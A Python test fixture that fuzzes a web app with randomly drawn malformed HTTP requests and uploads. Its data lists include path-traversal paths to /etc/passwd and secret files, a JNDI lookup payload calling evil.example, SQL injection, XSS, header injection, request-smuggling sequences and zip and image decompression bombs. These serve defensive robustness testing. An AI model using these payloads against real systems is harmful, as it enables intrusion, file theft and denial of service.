"""Strange HTTP requests, drawn from chance: addresses, methods, forms and uploads as no browser makes them."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from tests.telegram_standin import voice_note
from tests.web.pictures import jpeg, png

WORDS = "Pendramwnwgl"
"""In what strange requests say: it may stand in the database, and nowhere in a log."""

METHODS = (
    "GET",
    "GET",
    "POST",
    "POST",
    "HEAD",
    "OPTIONS",
    "PUT",
    "DELETE",
    "PATCH",
    "TRACE",
    "get",
    "BREW",
    "P\u00d6ST",
)

PATHS = (
    "/", "/say", "/say/", "/new", "/new/", "/healthz", "/readyz", "/metrics", "/telegram", "/telegram/",
    "/static/", "/static/chat.js", "/static/chat.css", "/static/../site.py", "/static/%2e%2e%2fsite.py",
    "/static//etc/passwd", "/static/%00", "/static/" + "a/" * 800, "/static/chat.js%00.css",
    "/static/%c0%ae%c0%ae/site.py", "/clip/en/x.ogg", "/clip/en/x.mp3", "/clip/1/en/x.ogg",
    "/clip/-1/en/x.ogg", "/clip/00/en/x.ogg", "/clip/٠/en/x.ogg", "/clip/../../data/secret.ogg",
    "/clip/..%2f..%2fdata/secret.ogg", "/clip/en/..ogg", "/clip/en/....//....//secret.ogg",
    "/clip/en/%2e%2e%5c%2e%2e%5csecret.ogg", "/clip/%2e%2e/%2e%2e.ogg", "/clip/en%00/x.ogg",
    "/clip/en/x.ogg%00", "/clip/en/con.ogg", "/clip//x.ogg", "/clip/en/a.b.ogg",
    "/clip/en/" + "x" * 300 + ".mp3", "/mine/", "/mine/..", "/mine/..%2f..%2fdata%2fsecret",
    "/mine/%2e%2e%2fsecret", "/mine/*", "/mine/[a-z]*.1-1", "/mine/x.1-1", "/mine/x.1-1.mp3", "/mine/x.1-1.ogg",
    "/mine/x.١-١", "/mine/\ud7ff", "/mine/x.999999-999999.mp3", "/mine/%ff%fe.1-1", "/mine.zip", "/mine.zip?x=1",
    "/mine.zip/", "/mine.zip/../data/secret", "/mine%2ezip", "/mine.zip%00", "/join/x", "/join/%00", "/board/",
    "/board/hear/x.1-1", "/board/given", "//", "//evil.example/",
    "/%2e%2e/%2e%2e/etc/passwd", "/.env", "/..;/", "/%", "/%zz", "/%u0041", "/\\..\\", "/data/secret",
    "/data/sgwrs.db", "/index.php?a=1", "*", "", "http://evil.example/", "https:///", "/?" + "a=b&" * 2000,
    "/#", "/say?text=x&key=0::language.en", "/\x7f", "/ /", "/say;jsessionid=1", "/SAY", "/%73ay",
    "/robots.txt", "/favicon.ico", "/.well-known/security.txt", "/🙂",
)  # fmt: skip

HEADERS = (
    "Accept-Language: " + "cy;q=0.1," * 900, "Accept-Language: \x00\x01", "Accept-Language: *;q=nonsense",
    "Accept-Language: -,--,;;,=", "Range: bytes=0-", "Range: bytes=-0", "Range: bytes=9-1",
    "Range: bytes=" + "0-1," * 500, "Range: bytes=99999999999999999999-", "Range: lines=1-2",
    "Range: bytes=٠-١", "If-Range: x", "If-None-Match: *", "If-Modified-Since: never",
    "Cookie: " + "a=b; " * 1500, "Cookie: sgwrs", "Cookie: sgwrs=;sgwrs=x; sgwrs=", "Cookie: sgwrs=" + "A" * 43,
    "Cookie: sgwrs=" + "../" * 14 + "x", 'Cookie: sgwrs="' + "A" * 43 + '"', "Cookie: \xff\xfe=\x00",
    "Cookie: sgwrs=" + "é" * 43, "Origin: null", "Origin: http://evil.example", "Sec-Fetch-Site: cross-site",
    "Sec-Fetch-Site: nonsense", "Referer: javascript:alert(1)", "X-Forwarded-For: 127.0.0.1, ::1, <script>",
    "X-Forwarded-Host: evil.example", "X-HTTP-Method-Override: DELETE", "X-Original-URL: /data/secret",
    "Forwarded: for=_x", "Upgrade: websocket", "Upgrade: h2c", "Connection: upgrade", "Expect: 100-continue",
    "Expect: nonsense", "TE: trailers", "Content-Encoding: gzip", "Content-Encoding: br, gzip",
    "Accept-Encoding: " + "gzip," * 500, "Accept: */" + "x" * 4000, "User-Agent: ${jndi:ldap://evil.example/a}",
    "User-Agent: ' OR 1=1 --", "Authorization: Basic %%%", "X: " + "y" * 60_000, "Content-Length: 0",
    "Content-Length: -1", "Content-Length: 5, 5", "Transfer-Encoding: identity", "Host: evil.example",
    "X-Telegram-Bot-Api-Secret-Token: " + "x" * 300, "Date: yesterday", "\x00: x", "No colon here",
    " folded: header", *(f"X-{number}: {number}" for number in range(5)), "Max-Forwards: 0",
    "Proxy-Connection: close", "Keep-Alive: timeout=-1",
)  # fmt: skip

KEYS = (
    "0::language.en", "0::language.cy", "1:welcome:option.go_on", "8:consent:option.yes", "7:consent:option.no",
    "9:good_day:control.skip", "3:check:option.wipe", "5:check:option.voice", "999999999:a:option.b",
    "1:a:control.exec", "1:topics:page.more", "1:thanks:aside.start_again", "٣:a:option.b", "1:a", ":::::",
    "\x00", "1:" + "a" * 9999 + ":b", "1:../../x:option.y", "1:a:language.../../x", "-1:a:option.b",
    "1:a:option.__class__", "1:a:control.stop", "1:a:mine.wipe_all", "0::mine.forget_me", "1:a:mine.file",
    "1:a:mine.hear", "2:good_day:mine.voice", "1:a:mine.__class__", "3:a:aside.mine", "3:a:aside.complaint",
)  # fmt: skip

TEXTS = (
    "", " ", "7", "0", f"{WORDS}", f"{WORDS}\x00\x1b[2J", f"<script>{WORDS}</script>",
    f"{WORDS} \u202e \u0335\u0489", f"{{{{ 7*7 }}}} {WORDS} {{% raw %}}", f"'; DROP TABLE answers; -- {WORDS}",
    "\u200b\u200d", "🙂" * 3000, WORDS * 1500, "x" * 150_000, f"{WORDS}\r\nSet-Cookie: a=b", "/start", "=1+1",
    f"{WORDS} %s %n {{org}}",
)  # fmt: skip

ASKS = ("", "0", "1", "-1", "999999999", "9999999999", "٣", "1.5", "None", "\x00", "0x10", "9" * 4000)

NAMES = ("v.ogg", "../../x", "\\\\x\\y", "a\x00b", "é" * 300, 'a"b', "", "x" * 3000, "CON", ".htaccess")
KINDS = ("audio/ogg", "image/jpeg", "text/html", "", "x/y; charset=x")
"""What uploads are called, and what they say they are."""

FIELDS = (
    "once",
    "ask",
    "key",
    "text",
    "voice",
    "photo",
    "unknown",
    "",
    "__proto__",
    "text[]",
    "_charset_",
    "once ",
    "\u00e9",
)


def _archive() -> bytes:
    """A few kilobytes that unpack to ten million zeros."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(10_000_000))
    return file.getvalue()


def _wave(rate: int, size: int) -> bytes:
    head = struct.pack(
        "<4sI4s4sIHHIIHH4sI", b"RIFF", size, b"WAVE", b"fmt ", 16, 1, 1, rate, rate * 2, 2, 16, b"data", size
    )
    return head + bytes(400)


def _wide_png() -> bytes:
    """A picture that says it is 60,000 dots wide and high, and is small."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1_000_000))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def uploads() -> dict[str, bytes]:
    """Files that are not what they say, by what they are."""
    page, note, picture = f"<html><script>{WORDS}</script>".encode(), voice_note(1, seed=81), jpeg()
    return {
        "nothing": b"",
        "a page": page,
        "an SVG with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "a photo that is a page as well": picture[:2] + b"\xff\xfe\x00\x40" + page.ljust(62) + picture[2:] + page,
        "a photo and an archive": picture + _archive(),
        "half a photo": picture[: len(picture) // 2],
        "a photo of endless segments": b"\xff\xd8" + b"\xff\xe1\xff\xff" * 500,
        "a very wide picture": _wide_png(),
        "half a picture": png()[:40],
        "a picture with a chunk of four gigabytes": png()[:33] + b"\xff\xff\xff\xffIDAT",
        "an archive": _archive(),
        "half a voice note": note[: len(note) // 2],
        "a voice note that is a PDF as well": b"%PDF-1.7\n" + note,
        "a voice note with pages out of order": note[:300] + note[:200] + note[500:],
        "a voice note and a page": note + page,
        "sound of no rate": _wave(0, 400),
        "sound of an endless rate": _wave(2**32 // 2 - 1, 400),
        "sound that says it is four gigabytes": _wave(48_000, 2**32 - 1),
        "a playlist": b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        "a list of files to join": b"ffconcat version 1.0\nfile /etc/passwd\n",
        "webm noise": b"\x1aE\xdf\xa3" + bytes(range(256)) * 20,
        "mp4 with a box of endless size": struct.pack(">I4sQ", 1, b"ftyp", 2**63) + bytes(100),
        "mp4 of boxes of no size": b"\0\0\0\x08ftyp" + b"\0\0\0\0moov" * 99,
        "flac noise": b"fLaC" + bytes(range(256)) * 9,
        "mp3 noise": b"\xff\xfb\x90\x00" * 900,
        "a tag that is all there is": b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f",
    }


@dataclass
class Odd:
    """Draws strange requests as bytes. The same seed draws the same ones. `known` are addresses that do exist."""

    chance: random.Random
    known: Sequence[str]

    def __post_init__(self) -> None:
        self._files = list(uploads().values())

    def draw(self) -> bytes:
        make: Callable[[], bytes] = self.chance.choice(
            (self.any_address, self.form, self.multipart, self.broken_multipart)
        )
        return make()

    def _request(self, method: str, path: str, body: bytes = b"", kind: str = "") -> bytes:
        strange = self.chance.sample(HEADERS, self.chance.choice((0, 0, 1, 2, 5)))
        head = [f"{method} {path} HTTP/1.1", "Host: x", "Connection: close", *strange]
        if kind:
            head.append(f"Content-Type: {kind}")
        if body:
            head.append(f"Content-Length: {len(body)}")
        return "\r\n".join(head).encode("utf-8", "surrogatepass") + b"\r\n\r\n" + body

    def any_address(self) -> bytes:
        """Whatever method at whatever address; with a body where none is wanted, at times."""
        body = self.chance.choice((b"", b"", b"{}", b"\0" * 50, b"a=b"))
        return self._request(self.chance.choice(METHODS), self.chance.choice((*PATHS, *self.known)), body)

    def value(self, name: str) -> str:
        if self.chance.random() < 0.1:
            return self.chance.choice(TEXTS)
        values = {"ask": ASKS, "key": KEYS, "once": ("", "x", "x" * 24, "../../../x", "a" * 5000, "\x00" * 10)}
        return self.chance.choice(values.get(name, TEXTS))

    def fields(self) -> list[tuple[str, str]]:
        """Some fields, at times the same one several times."""
        names = self.chance.choices(FIELDS, k=self.chance.choice((0, 1, 2, 3, 6, 40)))
        return [(name, self.value(name)) for name in names]

    def form(self) -> bytes:
        """A form as text, well written or not."""
        pairs = [f"{_quoted(name)}={_quoted(value)}" for name, value in self.fields()]
        body = self.chance.choice(("&", "&", "&", ";", "&&", "\r\n")).join(pairs).encode()
        if self.chance.random() < 0.2:
            body = body[: len(body) // 2] + self.chance.choice((b"%", b"%zz", b"\xff\xfe", b"=&=", b"\0"))
        kind = "application/x-www-form-urlencoded"
        kinds = (
            kind,
            kind,
            kind,
            f"{kind}; charset=utf-16",
            f"{kind}; charset=nonsense",
            "text/plain",
            "application/json",
            ";",
        )
        return self._request("POST", self.chance.choice(("/say", "/say", "/new")), body, self.chance.choice(kinds))

    def part(self, name: str, value: bytes) -> bytes:
        return f'Content-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value + b"\r\n"

    def file(self, name: str) -> bytes:
        """A part that holds a file."""
        called, kind = self.chance.choice(NAMES), self.chance.choice(KINDS)
        head = (
            f'Content-Disposition: form-data; name="{name}"; filename="{called}"\r\nContent-Type: {kind}\r\n\r\n'
        )
        return head.encode() + self.chance.choice(self._files) + b"\r\n"

    def multipart(self) -> bytes:
        """A form with uploads that are not what they say."""
        names = self.chance.choices(("voice", "photo", "text", "once"), k=self.chance.choice((1, 1, 2, 5)))
        parts = [self.part(name, value.encode()) for name, value in self.fields()[:5]] + list(
            map(self.file, names)
        )
        self.chance.shuffle(parts)
        body = b"".join(b"--b\r\n" + part for part in parts) + b"--b--\r\n"
        return self._say(body, "multipart/form-data; boundary=b")

    def broken_multipart(self) -> bytes:
        """A form in parts that breaks off, or whose parts are none."""
        pick = self.chance.choice
        good = b"--b\r\n" + self.part("text", WORDS.encode()) + b"--b--\r\n"
        body = pick(
            (
                good[: self.chance.randrange(len(good))],
                good.replace(b"\r\n", b"\n"),
                good.replace(b"--b", b"--c"),
                good.replace(
                    b'name="text"', pick((b"name=text", b"name", b"name*=utf-8''text", b'name="te\0xt"', b""))
                ),
                good.replace(b"form-data", pick((b"attachment", b"", b"FORM-DATA", b"form-data; form-data"))),
                good.replace(b"Content-Disposition", pick((b"X", b"content-disposition", b"\xff", b"A" * 9000))),
                b"--b\r\n" * 500 + good,
                good.replace(b"\r\n\r\n", b"\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"),
                good.replace(b"\r\n\r\n", b"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n"),
                good.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"),
                good.replace(b"\r\n\r\n", b"\r\n" + b"X-Y: z\r\n" * 400 + b"\r\n"),
                b"".join(b"--b\r\n" + self.part(f"f{n}", b"x") for n in range(60)) + b"--b--",
                b"--b--\r\n" + good,
                b"\r\n" * 3000 + good,
            )
        )
        kind = "multipart/form-data"
        kinds = (
            f"{kind}; boundary=b",
            f"{kind}; boundary=b",
            kind,
            f"{kind}; boundary=",
            f"{kind}; boundary={'b' * 300}",
        )
        return self._say(
            body,
            pick(
                (*kinds, f'{kind}; boundary="b"', f"{kind}; boundary=b; boundary=c", "multipart/mixed; boundary=b")
            ),
        )

    def _say(self, body: bytes, kind: str) -> bytes:
        return self._request("POST", "/say", body, kind)


def _quoted(text: str) -> str:
    return "".join(
        f"%{byte:02x}" if byte < 48 or byte > 122 else chr(byte) for byte in text.encode("utf-8", "surrogatepass")
    )


_SAY = b"POST /say HTTP/1.1\r\nHost: x\r\n"
_UPGRADE = (
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==\r\n\r\n"
)

HEADLESS = (
    b"\r\n\r\n", b"GET\r\n\r\n", b"GET / HTTP/0.9\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"SSH-2.0-x\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    bytes(5000), b"A" * 200_000, b"GET " + b"/a" * 50_000,
    b"GET / HTTP/1.1\r\nHost: x\r\n" + b"A: b\r\n" * 20_000 + b"\r\n", b"GET / HTTP/1.1\nHost: x\n\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n",
    b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n", b"GET / HTTP/1.1\r\nHost: x\r\n" + _UPGRADE,
    _SAY + b"Transfer-Encoding: chunked\r\n\r\nZZZ\r\nhello\r\n0\r\n\r\n",
    _SAY + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nhello",
    _SAY + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /new HTTP/1.1\r\n\r\n",
    _SAY + b"Content-Length: 5\r\nContent-Length: 50\r\n\r\nhello",
    _SAY + b"Content-Length: 50\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n",
)  # fmt: skip
"""What is sent before a connection is dropped: hardly HTTP, or less than it promises."""
